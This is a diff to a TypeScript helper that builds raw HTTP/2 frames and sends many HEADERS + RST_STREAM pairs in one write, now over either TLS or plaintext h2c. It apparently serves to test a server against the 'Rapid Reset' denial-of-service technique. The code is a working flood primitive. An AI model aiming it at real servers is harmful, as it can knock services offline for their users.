@@ -4,7 +4,8 @@
  * Node's own client cannot do this: a stream closed before its HEADERS were flushed is never sent.
  */
 import { once } from 'node:events';
-import { connect, type ConnectionOptions, type TLSSocket } from 'node:tls';
+import { connect as netConnect, type Socket } from 'node:net';
+import { connect, type ConnectionOptions } from 'node:tls';
 
 const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
 const TYPE = { HEADERS: 0x1, RST_STREAM: 0x3, SETTINGS: 0x4 } as const;
@@ -20,27 +21,30 @@ function frame(type: number, flags: number, streamId: number, payload: Buffer): 
   return Buffer.concat([header, payload]);
 }
 
-/** GET / over https, :authority literal (HPACK static-table indices 2, 7, 4; literal name index 1). */
-function requestBlock(authority: string): Buffer {
+/** GET / over https or http, :authority literal (HPACK static-table indices 2, 7 or 6, 4; literal name index 1). */
+function requestBlock(authority: string, secure: boolean): Buffer {
   const value = Buffer.from(authority);
-  return Buffer.concat([Buffer.from([0x82, 0x87, 0x84, 0x01, value.length]), value]);
+  return Buffer.concat([Buffer.from([0x82, secure ? 0x87 : 0x86, 0x84, 0x01, value.length]), value]);
 }
 
 export interface RapidResetResult {
-  socket: TLSSocket;
+  socket: Socket;
   /** Resolves when the server closed or reset the connection. */
   closed: Promise<void>;
 }
 
-/** Connect, then send `streams` HEADERS + RST_STREAM pairs in one write. */
-export async function rapidReset(host: string, port: number, tls: ConnectionOptions, streams: number): Promise<RapidResetResult> {
-  const socket = connect({ ...tls, host, port, ALPNProtocols: ['h2'], servername: 'localhost' });
+/**
+ * Connect (TLS with `tls`, or h2c with prior knowledge when `tls` is undefined), then send `streams`
+ * HEADERS + RST_STREAM pairs in one write.
+ */
+export async function rapidReset(host: string, port: number, tls: ConnectionOptions | undefined, streams: number): Promise<RapidResetResult> {
+  const socket: Socket = tls === undefined ? netConnect({ host, port }) : connect({ ...tls, host, port, ALPNProtocols: ['h2'], servername: 'localhost' });
   socket.on('error', () => undefined);
   socket.on('data', () => undefined); // read (and drop) whatever the server sends
   const closed = once(socket, 'close').then(() => undefined);
-  await once(socket, 'secureConnect');
+  await once(socket, tls === undefined ? 'connect' : 'secureConnect');
   const parts: Buffer[] = [PREFACE, frame(TYPE.SETTINGS, 0, 0, Buffer.alloc(0)), frame(TYPE.SETTINGS, FLAG.ACK, 0, Buffer.alloc(0))];
-  const block = requestBlock(`${host}:${port}`);
+  const block = requestBlock(`${host}:${port}`, tls !== undefined);
   const rst = Buffer.alloc(4);
   rst.writeUInt32BE(CANCEL);
   for (let i = 0; i < streams; i++) {
